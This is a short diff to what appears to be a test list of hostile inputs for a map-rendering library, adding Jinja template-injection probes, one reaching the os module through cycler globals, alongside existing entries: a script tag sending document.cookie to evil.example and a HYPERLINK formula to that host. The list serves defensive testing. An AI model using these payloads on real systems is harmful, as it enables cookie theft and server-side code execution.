@@ -352,6 +352,10 @@ HOSTILE = [
     "<script>fetch('http://evil.example/'+document.cookie)</script>",
     "& &amp; &lt; \\ \\\\ ]]> <![CDATA[x]]>",
     '=HYPERLINK("http://evil.example","点我")',
+    # Jinja (folium renders maps through it): evaluated, these print 49, a loop, or the server's directory.
+    "{{ 7*7 }}号医院",
+    "{% for i in range(3) %}环{% endfor %}",
+    "{{ cycler.__init__.__globals__.os.getcwd() }}",
 ]
 
 
